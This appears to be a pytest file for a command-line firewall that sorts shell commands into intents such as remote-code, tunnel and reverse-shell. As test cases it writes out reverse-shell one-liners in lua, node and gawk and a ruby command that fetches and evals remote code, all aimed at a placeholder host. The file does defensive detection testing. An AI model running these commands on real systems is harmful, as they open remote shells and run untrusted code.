"""Code on the command line that connects, fetches or runs."""

import shlex

import pytest

from firewall.commands.intents import facts_of


def told(line: str) -> list[str]:
    """Intents as "name target detail"."""
    found = facts_of(shlex.split(line)).intents
    return [f"{each.name} {each.target} {each.detail}".strip() for each in found]


CASES = {
    "deno run https://h/x.ts": ["remote-code https://h/x.ts"],
    "deno run x.ts": [],
    "deno eval 1": ["inline-code deno 1"],
    "Rscript -e 1": ["inline-code rscript 1"],
    "awk '{print $1}' f": [],
    'gawk \'BEGIN{s="/inet/tcp/0/h/1";print "x" |& s}\'': [
        'tunnel  BEGIN{s="/inet/tcp/0/h/1";print "x" |& s}'
    ],
}


@pytest.mark.parametrize("line", CASES)
def test_intents(line: str) -> None:
    assert told(line) == CASES[line]


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("""lua -e 'require("socket").tcp():connect("h",1);os.execute("sh")'""", "reverse-shell"),
        (
            """node -e 'require("net").connect(1);require("child_process").spawn("sh")'""",
            "reverse-shell",
        ),
        (
            """awk 'BEGIN{s="/inet/tcp/0/h/1";s|&getline c;while((c|getline)>0)print|&s}'""",
            "reverse-shell",
        ),
        ("""ruby -ropen-uri -e 'eval(URI.open("http://h").read)'""", "remote-code"),
    ],
)
def test_other_ends_that_give_orders(line: str, name: str) -> None:
    assert told(line)[0].startswith(name)
